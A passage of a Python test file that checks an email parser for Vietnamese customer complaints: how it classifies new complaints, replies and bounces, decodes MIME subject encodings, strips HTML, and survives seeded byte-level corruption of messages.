        MailKind.AUTO_REPLY: EXPECTED.auto_replies,
        MailKind.BOUNCE: EXPECTED.bounces,
    }
    new_keys = Counter(p.intake_key for p in parsed_corpus if p.kind is MailKind.NEW_COMPLAINT)
    assert len(new_keys) == EXPECTED.new_complaints == 80
    assert sum(n - 1 for n in new_keys.values()) == EXPECTED.duplicates
    assert sum(key.startswith("sha256:") for key in new_keys) == EXPECTED.without_message_id
    assert sum(p.unreadable for p in parsed_corpus) == EXPECTED.unreadable == 0


def test_corpus_replies_name_existing_complaints_both_ways(parsed_corpus: list[MailMessage]) -> None:
    replies = [p for p in parsed_corpus if p.kind is MailKind.REPLY]
    assert all(p.complaint_id in EXISTING for p in replies)
    reasons = Counter(p.reason for p in replies)
    assert reasons["subject_tag"] == EXPECTED.replies_by_subject
    assert reasons["in_reply_to"] + reasons["references"] == EXPECTED.replies_by_header
    assert reasons["references"] > 0
    assert all("Tôi bổ sung thêm thông tin" in p.display_text and ">" not in p.display_text for p in replies)
    assert all("đã tiếp nhận khiếu nại" in p.text for p in replies)  # the full text is kept


def test_corpus_bounces_are_about_our_acknowledgements(parsed_corpus: list[MailMessage]) -> None:
    bounces = [p.bounce for p in parsed_corpus if p.kind is MailKind.BOUNCE]
    assert sorted(b.original_message_id or "" for b in bounces if b) == sorted(
        our_message_id(cid, DOMAIN) for cid in EXISTING[: EXPECTED.bounces]
    )
    assert all(b is not None and b.failed and b.status == "5.1.1" and b.reason for b in bounces)


def test_corpus_new_complaints_read_as_vietnamese(parsed_corpus: list[MailMessage]) -> None:
    def pattern(template: str) -> re.Pattern[str]:
        pieces = re.split(r"\{(\w)\}", template)  # literal, field, literal, ...
        return re.compile(
            "".join(re.escape(p) if i % 2 == 0 else (".+" if p == "b" else r"\d+") for i, p in enumerate(pieces))
        )

    templates = [pattern(s) for s in SUBJECTS]
    new = [p for p in parsed_corpus if p.kind is MailKind.NEW_COMPLAINT]
    for p in new:
        assert any(t.fullmatch(p.subject) for t in templates), p.subject
        assert p.sender is not None and p.sender.name and not p.sender.name.isascii()
        assert "Đề nghị quý công ty kiểm tra và phản hồi sớm." in p.text
        assert "<" not in p.text  # HTML never leaks into the complaint text
    assert sum(p.body_from_html for p in new) > 0
    assert sum(bool(p.attachments) for p in new) > 0
    assert {a.content_type for p in new for a in p.attachments} == {"application/pdf", "image/png"}


def test_corpus_uses_every_subject_encoding_issue_14_names() -> None:
    raw = b"\n".join(corpus(EXISTING, DOMAIN))
    for marker in (b"=?utf-8?Q?", b"=?utf-8?B?", b"=?windows-1258?Q?", b"=?windows-1258?B?"):
        assert marker in raw
    assert "Subject: Khiếu".encode() in raw or re.search(rb"Subject: [^\r\n=]*[\x80-\xff]", raw)
    assert b"charset=windows-1258" in raw and b"multipart/alternative" in raw


def test_the_benchmarks_mailbox_is_a_thousand_distinct_new_complaints() -> None:
    parsed = [parse(raw) for raw in new_complaints(1000, DOMAIN)]
    assert {p.kind for p in parsed} == {MailKind.NEW_COMPLAINT}
    assert len({p.intake_key for p in parsed}) == 1000
    assert not any(p.unreadable for p in parsed)


def test_damaged_copies_of_real_mail_are_still_taken_apart() -> None:
    """Seeded byte damage to the corpus: every result is read by the parser proper (the
    unreadable fallback is for what Python cannot parse at all), storable, and free of NUL."""
    messages = corpus(EXISTING, DOMAIN)
    rng = random.Random(2026)
    inserts = [b"\r\n", b"=?", b"?=", b"--", b"\r\n\r\n", b";", b'"', b"<", b">", b"boundary=", b"\x00", b"charset="]
    for _ in range(400):
        damaged = bytearray(rng.choice(messages))
        for _ in range(rng.randint(1, 30)):
            at = rng.randrange(len(damaged))
            roll = rng.random()
            if roll < 0.4:
                damaged[at] = rng.randrange(256)
            elif roll < 0.7:
                del damaged[at : at + rng.randint(1, 50)]
            else:
                damaged[at:at] = rng.choice(inserts)
        parsed = parse(bytes(damaged))
        assert "unparseable" not in parsed.problems
        MailMessage.model_validate_json(parsed.model_dump_json())
        assert not any("\x00" in text for text in (parsed.text, parsed.subject, parsed.display_text))


def test_the_corpus_reads_the_same_with_bare_lf_line_endings(parsed_corpus: list[MailMessage]) -> None:
    """As a mailbox may store it: same kinds, same keys (the content key ignores line endings)."""
    lf = [parse(raw.replace(b"\r\n", b"\n")) for raw in corpus(EXISTING, DOMAIN)]
    assert [(p.kind, p.intake_key, p.complaint_id) for p in lf] == [
        (p.kind, p.intake_key, p.complaint_id) for p in parsed_corpus
    ]
    assert [p.display_text for p in lf] == [p.display_text for p in parsed_corpus]
